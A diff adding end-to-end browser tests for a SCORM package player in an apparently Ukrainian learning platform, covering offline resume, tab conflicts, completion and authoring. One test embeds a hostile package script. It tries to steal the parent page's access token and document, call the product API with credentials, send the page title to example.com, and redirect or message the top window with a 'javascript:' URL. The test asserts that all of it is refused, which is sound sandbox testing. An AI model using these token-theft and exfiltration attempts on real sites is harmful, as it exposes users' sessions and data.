@@ -1,0 +1,242 @@
+import type { Frame, Page } from 'playwright-core';
+import { beforeAll, expect, inject } from 'vitest';
+import { aCompany, type Company, type Course, unique } from '../factories/company.ts';
+import { asSystem } from '../factories/world.ts';
+import { aPackage, aPage } from '../fixtures/packages.ts';
+import { accessibilityProblems } from '../support/accessible.ts';
+import { signIn, test } from '../support/browser.ts';
+import { productWorld } from '../support/product-world.ts';
+
+let company: Company;
+let course: Course;
+beforeAll(async () => {
+  company = await aCompany(productWorld());
+  course = await company.aCourse({ materials: 0 });
+});
+
+const button = (page: Page | Frame, name: string) => page.getByRole('button', { name, exact: true });
+
+/** A material with a package, uploaded as a browser does. */
+async function aPackageMaterial(bytes: Uint8Array<ArrayBuffer>): Promise<{ id: number; path: string }> {
+  const owner = company.as('owner');
+  const of = `/course/course/${course.id}/educational_material/`;
+  const { body } = await owner.post(of, { name: unique('Пакет'), type: 'package', next_access: 'free' });
+  const uploader = `/api_uploader/v1${of}${body.id}/package/`;
+  const begun = await owner.post(uploader, { name: 'a.zip', size: bytes.length });
+  const { url, headers } = begun.body.upload as { url: string; headers: Record<string, string> };
+  expect((await fetch(url, { method: 'PUT', headers, body: bytes })).status).toBe(200);
+  const kept = await owner.post(`${uploader}${begun.body.id}/complete/`, {});
+  expect([kept.status, kept.text]).toEqual([200, expect.any(String)]);
+  return { id: body.id as number, path: `/course/${course.id}/education-materials/${body.id}` };
+}
+
+/** The page of the package, inside of the player, inside of the product. */
+async function packageFrame(page: Page): Promise<Frame> {
+  const player = await (await page.waitForSelector('dialog iframe')).contentFrame();
+  const inner = await player!.waitForSelector('iframe[src*="/files/"]');
+  const frame = await inner.contentFrame();
+  await frame!.waitForLoadState();
+  return frame!;
+}
+
+const stateOf = async (material: number) => {
+  const [row] = await asSystem<{ place: string; status: string }>(productWorld(), [
+    "select state #>> '{one,elements,cmi.core.lesson_location}' as place, status from package_tries where material_id = $1",
+    [material],
+  ]);
+  return row;
+};
+
+test('a package on a phone goes on through an outage and a reload, and loses nothing', async ({
+  page,
+  context,
+  allowErrors,
+}) => {
+  allowErrors(/ERR_FAILED|ERR_INTERNET_DISCONNECTED/);
+  const { id, path } = await aPackageMaterial(await aPackage());
+  await page.setViewportSize({ width: 360, height: 740 });
+  await signIn(page, company.people.student);
+  await page.goto(path);
+  await button(page, 'Відкрити').click();
+  const first = await packageFrame(page);
+  await first.getByText('Крок 0').waitFor();
+  expect(await page.locator('dialog').boundingBox()).toMatchObject({ x: 0, y: 0, width: 360, height: 740 });
+  await button(first, 'Далі').click();
+  await page.getByText('Збережено').waitFor();
+  expect(await accessibilityProblems(page)).toEqual([]);
+
+  await page.context().setOffline(true);
+  await button(first, 'Далі').click();
+  await button(first, 'Далі').click();
+  await page.getByText('Немає зв’язку').waitFor();
+  expect(await stateOf(id)).toMatchObject({ place: '1' });
+  // The tab goes, and with it all that the package and its player hold.
+  await page.close();
+  await context.setOffline(false);
+  const later = await context.newPage();
+  await later.setViewportSize({ width: 360, height: 740 });
+  await signIn(later, company.people.student);
+  await later.goto(path);
+  await button(later, 'Продовжити').click();
+  const second = await packageFrame(later);
+  await second.getByText('Крок 3').waitFor();
+  await second.getByText('step=3').waitFor();
+  await later.getByText('Збережено').waitFor();
+  expect(await stateOf(id)).toMatchObject({ place: '3' });
+  await later.reload();
+  const third = await packageFrame(later);
+  await third.getByText('Крок 3').waitFor();
+  await button(third, 'Скласти').click();
+  await expect.poll(() => stateOf(id)).toEqual({ place: '3', status: 'completed' });
+
+  await later.goBack();
+  await later.locator('dialog').waitFor({ state: 'detached' });
+  await later.getByText('90 %').first().waitFor();
+  await button(later, 'Почати спочатку').waitFor();
+  expect(await accessibilityProblems(later)).toEqual([]);
+});
+
+test('the tab that opened a package last has it, and the other one is told', async ({
+  page,
+  allowErrors,
+}) => {
+  allowErrors(/409/);
+  const { path } = await aPackageMaterial(await aPackage());
+  await signIn(page, company.people.student);
+  await page.goto(path);
+  await button(page, 'Відкрити').click();
+  const first = await packageFrame(page);
+  const other = await page.context().newPage();
+  await other.goto(path);
+  await button(other, 'Відкрити').click();
+  await button(await packageFrame(other), 'Далі').click();
+  await other.getByText('Збережено').waitFor();
+  await button(first, 'Далі').click();
+  await page.getByText(/відкрито в іншій вкладці/).waitFor();
+  await button(page, 'Продовжити тут').click();
+  await expect.poll(async () => (await packageFrame(page)).getByText('Крок 1').count()).toBe(1);
+  await other.close();
+});
+
+/** What a package tries that wants more than it is given; each answer stands in the page. */
+const ATTACK = `<script>
+const tries = {
+  storage: () => top.localStorage.getItem('access'),
+  document: () => top.document.body.innerHTML,
+  cookie: () => document.cookie || 'none',
+  api: () => fetch('PRODUCT_URL/api/v1/accounts/user_info/', { credentials: 'include' }).then((r) => r.status),
+  elsewhere: () => fetch('https://example.com/?' + document.title).then((r) => r.status),
+  picture: () => new Promise((yes, no) => { const i = new Image(); i.onload = () => yes('loaded'); i.onerror = () => no(new Error('refused')); i.src = 'PRODUCT_URL/icon.svg'; }),
+  window: () => String(open('PRODUCT_URL/')),
+  leave: () => { top.location = 'PRODUCT_URL/login'; return 'asked'; },
+  others: () => fetch('/' + 'a.b.c' + '/files/index.html').then((r) => r.status),
+  product: () => fetch('/api/v1/accounts/user_info/').then((r) => r.status),
+  home: () => fetch('/').then((r) => r.status),
+};
+(async () => {
+  const found = {};
+  for (const [name, attempt] of Object.entries(tries)) {
+    try { found[name] = String(await attempt()); } catch (error) { found[name] = 'refused: ' + error.name; }
+  }
+  const frame = document.createElement('iframe');
+  frame.src = 'PRODUCT_URL/login';
+  document.body.append(frame);
+  for (const target of [parent, top]) target.postMessage({ kind: 'state', sequence: 1, body: 'x', access: true }, '*');
+  top.postMessage({ kind: 'open', url: 'javascript:alert(1)' }, '*');
+  const out = document.createElement('pre');
+  out.id = 'found';
+  out.textContent = JSON.stringify(found);
+  document.body.append(out);
+})();
+</script>`;
+
+test('a package that tries to reach the product, or anybody else, reaches nothing', async ({
+  page,
+  allowErrors,
+}) => {
+  allowErrors(/./);
+  const origin = new URL(inject('product').url).origin;
+  const evil = aPage('1.2', ATTACK.replaceAll('PRODUCT_URL', origin));
+  const { path } = await aPackageMaterial(await aPackage({ files: { 'index.html': evil, 'evil.js': '1' } }));
+  await signIn(page, company.people.student);
+  await page.goto(path);
+  await button(page, 'Відкрити').click();
+  const frame = await packageFrame(page);
+  const found = JSON.parse((await frame.locator('#found').textContent())!) as Record<string, string>;
+  expect(found).toEqual({
+    storage: 'refused: SecurityError',
+    document: 'refused: SecurityError',
+    cookie: 'none',
+    api: 'refused: TypeError',
+    elsewhere: 'refused: TypeError',
+    picture: 'refused: Error',
+    window: 'null',
+    leave: expect.stringMatching(/^(refused: SecurityError|asked)$/),
+    others: '404',
+    product: '404',
+    home: '404',
+  });
+  expect(new URL(page.url()).pathname).toBe(path);
+  expect(frame.childFrames().some((child) => child.url().startsWith(`${origin}/login`))).toBe(false);
+  // What it said in the player's name is kept of its own try at most.
+  const keys = await page.evaluate(() =>
+    Object.keys(localStorage).filter((key) => key.startsWith('package:')),
+  );
+  expect(keys.length).toBeLessThanOrEqual(1);
+  expect(await page.evaluate(() => localStorage.getItem('access'))).toBeTruthy();
+});
+
+test('items that say nothing but that they begin and end are complete, one after the other', async ({
+  page,
+}) => {
+  const silent = `<!doctype html><meta name="viewport" content="width=device-width"><p>Сторінка</p><script>
+    onload = () => parent.API.LMSInitialize('');
+    onpagehide = () => parent.API.LMSFinish('');
+  </script>`;
+  const items = ['one', 'two'].map((id) => ({ id, title: `Розділ ${id}`, href: `${id}.html` }));
+  const files = { 'one.html': silent, 'two.html': silent };
+  const { id, path } = await aPackageMaterial(await aPackage({ items, files }));
+  await signIn(page, company.people.student);
+  await page.goto(path);
+  await button(page, 'Відкрити').click();
+  await packageFrame(page);
+  const player = page.frames().find((one) => one.url().endsWith('/player'))!;
+  await button(player, 'Далі').click();
+  await expect.poll(() => player.childFrames()[0]?.url()).toContain('two.html');
+  await button(player, 'Назад').click();
+  await expect.poll(() => stateOf(id)).toMatchObject({ status: 'completed' });
+});
+
+test('an author uploads a package, sees what is in it, and reads what students did', async ({ page }) => {
+  const name = unique('Охорона праці');
+  const two = [
+    { id: 'one', title: 'Вступ', href: 'index.html' },
+    { id: 'two', title: 'Перевірка', href: 'check.html' },
+  ];
+  await signIn(page, company.people.owner);
+  await page.goto(`/course/${course.id}/education-materials/constructor`);
+  await page.getByRole('radio', { name: /^Пакет SCORM/ }).click();
+  await page.getByLabel('Назва').fill(name);
+  const buffer = Buffer.from(await aPackage({ standard: '2004', items: two }));
+  const file = { name: 'course.zip', mimeType: 'application/zip', buffer };
+  await page.locator('input[type=file]').first().setInputFiles(file);
+  await button(page, 'Створити').click();
+  await page.waitForURL(/education-materials$/);
+  await page.getByRole('link', { name, exact: true }).click();
+  await page.getByText('SCORM 2004 4th Edition').waitFor();
+  await page.getByText('Перевірка').waitFor();
+  expect(await accessibilityProblems(page)).toEqual([]);
+
+  const path = page.url().replace('/constructor', '');
+  await page.goto(path);
+  await page.getByText('Спроб ще немає').waitFor();
+  await button(page, 'Переглянути як студент').click();
+  const frame = await packageFrame(page);
+  await button(frame, 'Скласти').click();
+  const player = page.frames().find((one) => one.url().endsWith('/player'))!;
+  await button(player, 'Далі').click();
+  await expect.poll(() => player.childFrames()[0]?.url()).toContain('check.html');
+  await button(page, 'Повернутися').click();
+  await page.getByText('Спроб ще немає').waitFor();
+  expect(await accessibilityProblems(page)).toEqual([]);
+});
